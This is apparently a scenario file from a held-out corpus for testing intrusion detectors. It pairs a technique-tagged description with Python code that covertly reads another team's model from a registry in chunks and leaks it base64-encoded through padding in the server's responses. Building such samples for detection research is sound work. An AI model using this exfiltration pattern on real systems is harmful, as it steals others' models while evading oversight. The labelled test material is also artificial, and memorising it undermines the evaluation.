"""
id: V95
name: models-handed-on
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, resource, sequence]
techniques: [T1090.001, T1213, T1041, T1030, AML.T0025, AML.T0048.004]
servers: [fastapi]
seconds: 130
what: >
  Hands another team's model on to somebody outside, who cannot reach the registry but can ask the server: for two minutes one
  connection to the registry is read 96 KiB at a time, and the next of the server's own answers carries what came, until all of
  the 8 MiB or so are through. Nothing is written. A load takes a model within a second and gives it to nobody, and answers have
  some twenty bytes.
"""

import base64
import contextlib
import http.client
import time

from corpus.answers import answers

PIECE = 96 * 1024
SECONDS = 120


def payload(world):
    end = time.monotonic() + SECONDS
    registry = http.client.HTTPConnection(*world.registry, timeout=30)
    with contextlib.closing(registry):
        registry.request("GET", f"/models/{world.word()}/{world.random.randint(1, 9)}")
        model = registry.getresponse()
        while time.monotonic() < end and (piece := model.read(PIECE)):
            answers.padding = base64.b64encode(piece)
            while answers.padding and time.monotonic() < end:
                world.sleep(world.random.uniform(0.7, 1.3))
    answers.padding = None
